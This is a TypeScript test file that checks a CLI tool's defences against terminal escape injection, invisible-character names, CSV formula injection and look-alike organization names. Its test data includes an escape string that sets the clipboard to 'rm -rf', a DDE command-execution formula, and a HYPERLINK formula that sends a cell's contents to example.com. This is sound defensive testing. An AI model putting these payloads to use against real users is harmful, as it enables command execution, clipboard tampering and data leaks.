// Attacks on users of the command line: texts that control a terminal (attack 142), names that imitate another organization's (attack 143),
// and texts that a spreadsheet would run (attack 378).

import assert from "node:assert/strict";
import { mkdtemp, rm } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { text } from "#base/json.ts";
import { isUnprintable } from "../../cli/output/escape.ts";
import { outputFormats } from "../../cli/output/format.ts";
import { runGantry } from "../command-line.ts";
import { openOwners } from "../owner.ts";
import { openWorld, type World } from "../world.ts";

let world: World;
let folder: string;
let environment: Record<string, string>;
let hostile: Server;
let hostileUrl: string;

/** Moves the cursor, rewrites lines, sets clipboard and title, hides text, and reverses its direction. */
const evil = "\u001b[2J\u001b[1;1H\u001b]52;c;cm0gLXJm\u0007\u009b31m\u202egnp\u2066\u200b\rdone\u0008";

before(async () => {
  world = await openWorld();
  folder = await mkdtemp(join(tmpdir(), "gantry-command-line-"));
  environment = { GANTRY_SERVER: world.url, GANTRY_TOKEN: await world.token(), XDG_CONFIG_HOME: folder, NO_COLOR: "1" };
  hostile = createServer((request, response) => {
    const refuses = request.url?.includes("roles") === true;
    response.writeHead(refuses ? 400 : 200, { "content-type": "application/json" });
    const item = { uid: `${"a".repeat(40)}${evil}`, name: `x${evil}`, description: evil, [`k${evil}`]: evil, status: evil, createTime: evil };
    const violation = { field: evil, description: evil };
    const details = [{ "@type": "type.googleapis.com/google.rpc.BadRequest", fieldViolations: [violation] }];
    response.end(JSON.stringify(refuses ? { code: 3, message: evil, details } : request.url?.includes("?") ? { groups: [item], totalCount: evil } : item));
  });
  await new Promise<void>((resolve) => hostile.listen(0, "127.0.0.1", resolve));
  hostileUrl = `http://127.0.0.1:${(hostile.address() as AddressInfo).port}`;
});
after(async () => {
  hostile.close();
  await world.close();
  await rm(folder, { recursive: true, force: true });
});

test("attack 142: neither output nor errors pass control sequences from the server to the terminal", async () => {
  const at = { ...environment, GANTRY_SERVER: hostileUrl };
  for (const format of outputFormats)
    for (const args of [
      ["iam", "groups", "list"],
      ["iam", "groups", "get", "a".repeat(40)],
      ["iam", "roles", "list"],
    ]) {
      const { out, err } = await runGantry([...args, "-o", format], { environment: at, columns: 100 });
      for (const written of [out, err]) assert.ok(!isUnprintable(written.replaceAll("\n", "")), `${args.join(" ")} -o ${format}: ${JSON.stringify(written)}`);
      assert.match(`${out}${err}`, /\\u001b|\\e/, `${args.join(" ")} -o ${format} shows what was escaped`);
    }
  const asked = await runGantry(["iam", "groups", "delete", "a".repeat(40)], { environment: at, columns: 100, input: "n\n" });
  assert.ok(!isUnprintable(asked.err.replaceAll("\n", "")), JSON.stringify(asked.err));
});

test("attack 231: a name of invisible characters is visible and distinct in every output format", async () => {
  const blank = "\u3164\u115f\u1160\uffa0\u2800";
  const hidden = "harbour\ufe06\ufe04\u{e0100}";
  const group = text(await world.ok("iam.GroupsService/CreateGroup", { parent: world.organization, group: { name: "harbour" } }), "uid");
  for (const description of [blank, hidden]) {
    await world.ok("iam.GroupsService/UpdateGroup", { group: { uid: group, description }, updateMask: "description" });
    for (const format of ["table", "wide", "json", "yaml", "jsonl"]) {
      const { out } = await runGantry(["iam", "groups", "get", group, "-o", format], { environment, columns: 200 });
      assert.doesNotMatch(out, /[\u2800\p{Default_Ignorable_Code_Point}]/u, format);
      if (format !== "table") assert.match(out, description === blank ? /\\u3164\\u115f\\u1160\\uffa0\\u2800/ : /harbour\\ufe06\\ufe04\\udb40\\udd00/, format);
    }
  }
});

test("attack 142: a line break in a name adds no line to the output that scripts read", async () => {
  const at = { ...environment, GANTRY_SERVER: hostileUrl };
  for (const format of ["uid", "name", "jsonl"] as const) {
    const { out } = await runGantry(["iam", "groups", "list", "-o", format], { environment: at });
    assert.equal(out.split("\n").length, 2, format);
  }
});

test("attack 378: a CSV export runs no text of another user as a formula in a spreadsheet", async () => {
  const parent = text(await world.ok("iam.GroupsService/CreateGroup", { group: { name: "spreadsheet" } }), "uid");
  const owner = await openOwners(world).token(parent);
  const formulas = ['=HYPERLINK("https://example.com/"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\uff1d1"];
  for (const [index, description] of formulas.entries())
    await world.ok("iam.GroupsService/CreateGroup", { parent, group: { name: `group-${index}`, description } }, { token: owner });
  const { out } = await runGantry(["iam", "groups", "list", "--children-of", parent, "--order-by", "name", "-o", "csv"], {
    environment: { ...environment, GANTRY_TOKEN: owner },
  });
  const lines = out.trimEnd().split("\r\n").slice(1);
  assert.equal(lines.length, formulas.length);
  for (const [index, line] of lines.entries()) {
    const cell = `'${formulas[index] ?? ""}`;
    assert.ok(line.startsWith(`group-${index},${/[",]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell},`), line);
  }
});

test("attack 143: a group that copies another organization's name makes a command fail and redirects nothing", async () => {
  const mine = text(await world.ok("iam.GroupsService/CreateGroup", { group: { name: "contoso" } }), "uid");
  const repo = text(await world.ok("registry.ReposService/CreateRepo", { parent: mine, repo: { name: "app" } }), "uid");
  assert.equal((await runGantry(["registry", "repos", "get", "contoso/app", "-o", "uid"], { environment })).out, `${repo}\n`);
  // Organization names are unique; a group below one can reuse a name.
  const elsewhere = text(await world.ok("iam.GroupsService/CreateGroup", { group: { name: "northwind" } }), "uid");
  const theirs = text(await world.ok("iam.GroupsService/CreateGroup", { parent: elsewhere, group: { name: "contoso" } }), "uid");
  await world.ok("registry.ReposService/CreateRepo", { parent: theirs, repo: { name: "app" } });
  for (const args of [
    ["registry", "repos", "delete", "contoso/app", "--yes"],
    ["registry", "repos", "update", "contoso/app", "--description", "theirs"],
    ["registry", "repos", "create", "--parent", "contoso", "--name", "other"],
    ["iam", "groups", "delete", "contoso", "--yes"],
  ]) {
    const { status, out, err } = await runGantry(args, { environment });
    assert.deepEqual([status, out], [8, ""], args.join(" "));
    assert.match(err, /is ambiguous: 2 have this name/);
  }
  assert.equal(text(await world.ok("registry.ReposService/GetRepo", { uid: repo }), "description"), "");
});

test("attack 143: a text in uid format is always a uid, so a group with a uid as its name never replaces it", async () => {
  const mine = text(await world.ok("iam.GroupsService/CreateGroup", { group: { name: "fabrikam" } }), "uid");
  const theirs = text(await world.ok("iam.GroupsService/CreateGroup", { group: { name: mine } }), "uid");
  const read = await runGantry(["iam", "groups", "get", mine, "-o", "uid"], { environment });
  assert.deepEqual([read.status, read.out], [0, `${mine}\n`]);
  const forced = await runGantry(["iam", "groups", "get", `name:${mine}`, "-o", "uid"], { environment });
  assert.deepEqual([forced.status, forced.out], [0, `${theirs}\n`]);
});
